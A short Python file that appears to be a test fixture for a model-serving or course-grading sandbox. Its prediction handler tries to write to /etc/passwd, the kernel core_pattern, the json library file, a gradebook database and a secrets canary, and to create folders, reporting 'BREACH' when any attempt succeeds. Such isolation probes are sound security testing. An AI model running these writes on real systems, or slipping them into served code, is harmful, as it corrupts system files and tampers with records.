import json
import os


def model_fn(model_dir):
    return []


def predict_fn(numbers, model):
    done = []
    places = [
        "/opt/caip/worker.py",
        json.__file__,
        "/etc/passwd",
        "@COURSE@/gradebook.db",
        "@SECRETS@/canary",
        "/proc/sys/kernel/core_pattern",
    ]
    for place in places:
        try:
            with open(place, "a") as file:
                file.write("mine")
            done.append(place)
        except OSError:
            pass
    for folder in ("/", "/opt", "/opt/caip", "/work", "/lab", "@COURSE@"):
        try:
            os.mkdir(folder + "/mine")
            done.append(folder)
        except OSError:
            pass
    return ["BRE" + "ACH", *done] if done else [0]


def input_fn(body, content_type):
    return json.loads(body)


def output_fn(prediction, accept):
    return json.dumps(prediction), accept
